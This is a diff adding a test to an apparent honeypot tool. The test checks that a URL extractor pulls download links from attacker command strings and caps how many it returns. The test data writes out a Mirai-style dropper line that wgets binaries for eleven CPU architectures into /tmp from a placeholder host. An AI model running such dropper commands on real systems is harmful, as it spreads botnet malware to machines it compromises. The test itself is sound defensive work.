@@ -273,6 +273,16 @@ def test_find_offers_download_tools():
     assert find_offers("see http://example.com/ for details") == []
 
 
+def test_find_offers_stops_at_max_offers():
+    from muscipula.capture.urls import MAX_OFFERS
+
+    archs = ["mips", "mpsl", "arm", "arm5", "arm6", "arm7", "x86", "m68k", "ppc", "sh4", "spc"]
+    dropper = "cd /tmp; " + "; ".join(f"wget http://d.example/bins/{a}" for a in archs)
+    assert find_offers(dropper) == [f"http://d.example/bins/{a}" for a in archs]
+    flood = ";".join(f"wget http://f.example/{i}" for i in range(20 * MAX_OFFERS))
+    assert find_offers(flood) == [f"http://f.example/{i}" for i in range(MAX_OFFERS)]
+
+
 # ----------------------------------------------------------------- personas
 
 
